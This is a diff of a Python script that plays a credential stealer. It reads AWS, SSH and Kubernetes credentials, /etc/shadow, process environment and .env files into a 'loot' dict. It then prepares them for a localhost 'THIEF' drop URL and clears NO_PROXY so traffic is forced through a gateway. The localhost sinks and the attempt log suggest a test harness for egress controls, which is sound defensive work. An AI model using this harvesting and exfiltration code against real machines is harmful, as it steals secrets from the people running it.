@@ -12,7 +12,7 @@ import urllib.request
 
 WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD")
 FILES = ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config", "/etc/shadow", "/proc/1/environ", ".env")
-THIEF = os.environ.get("LITELIKE_DROP", "http://127.0.0.1:9/drop")
+THIEF = "http://127.0.0.1:9/drop"
 
 ATTEMPTS = {"keys": [], "files": [], "sent": {}}
 
@@ -26,8 +26,10 @@ def collect():
     for name in FILES:
         try:
             with open(os.path.expanduser(name), "rb") as f:
-                loot[name] = f.read(2000).decode("utf-8", "replace")
-            ATTEMPTS["files"].append(name)
+                data = f.read(2000).decode("utf-8", "replace")
+            if data:
+                loot[name] = data
+                ATTEMPTS["files"].append(name)
         except OSError:
             pass
     return loot
@@ -59,6 +61,8 @@ def resolve():
 
 
 def steal():
+    for name in ("NO_PROXY", "no_proxy"):
+        os.environ.pop(name, None)
     loot = collect()
     gateway = os.environ.get("BRIDGEHOLD_GATEWAY", "http://127.0.0.1:8080")
     sent = ATTEMPTS["sent"]
